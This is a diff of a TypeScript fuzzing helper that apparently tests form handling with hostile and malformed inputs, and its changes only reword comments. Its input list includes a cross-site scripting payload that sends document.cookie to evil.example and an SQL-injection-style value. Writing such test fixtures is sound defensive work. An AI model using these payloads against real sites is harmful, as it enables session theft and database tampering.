@@ -1,7 +1,7 @@
 import { Raw } from '../support/wire';
 import type { Chance } from './chance';
 
-/** Texts with which forms are attacked, or which people really send. */
+/** Texts used in attacks, and unusual texts that people really send. */
 const TEXTS = [
   '楼上漏水三个月，天花板起皮，对方一直拖着不修。',
   '<script>fetch("//evil.example/"+document.cookie)</script>楼上漏水',
@@ -41,7 +41,7 @@ const TEXTS = [
   'x'.repeat(300_000),
 ];
 
-/** What JSON.stringify could not write: half characters, NUL, numbers beyond every bound. */
+/** Raw JSON that JSON.stringify cannot produce: half surrogate pairs, NUL, numbers out of range. */
 const RAW = [
   '"\\ud800"',
   '"楼上漏水\\udfff三个月\\ud83d没有修好"',
@@ -80,7 +80,7 @@ const OTHERS = [
   "350821'--",
 ];
 
-/** A text: one of the above, two of them joined, or one cut anywhere, even through a character. */
+/** A text: one of the above, two of them joined, or one cut anywhere, even within a character. */
 export function hostileText({ below, pick }: Chance): string {
   const text = pick(TEXTS);
   const way = below(4);
@@ -89,13 +89,13 @@ export function hostileText({ below, pick }: Chance): string {
   return text;
 }
 
-/** Any value: most often a text. */
+/** Any value, most often a text. */
 export function hostileValue(chance: Chance): unknown {
   const way = chance.below(10);
   return way < 6 ? hostileText(chance) : way < 8 ? chance.pick(RAW) : structuredClone(chance.pick(OTHERS));
 }
 
-/** JSON of a value with raw pieces anywhere in it. */
+/** Serializes a value that may contain raw JSON anywhere. */
 export function toJson(value: unknown): string {
   if (value instanceof Raw) return value.text;
   if (Array.isArray(value)) return `[${value.map(toJson).join(',')}]`;
@@ -109,12 +109,12 @@ export function toJson(value: unknown): string {
 const isObject = (value: unknown): value is Record<string, unknown> =>
   typeof value === 'object' && value !== null && !(value instanceof Raw);
 
-/** Breaks a form in some way and answers the body to send. */
+/** Breaks a form in some way and returns the body to send. */
 export function breakForm(form: Record<string, unknown>, chance: Chance, texts: readonly string[]): string {
   const { below, pick } = chance;
   const args: Record<string, unknown> = structuredClone(form);
   const rounds = 1 + below(3);
-  // A third of the tries touches only the texts, so that much is stored.
+  // A third of the attempts changes only the texts, so that many are stored.
   if (below(3) === 0) {
     for (let n = 0; n < rounds; n += 1) args[pick(texts)] = hostileText(chance);
     return toJson(args);
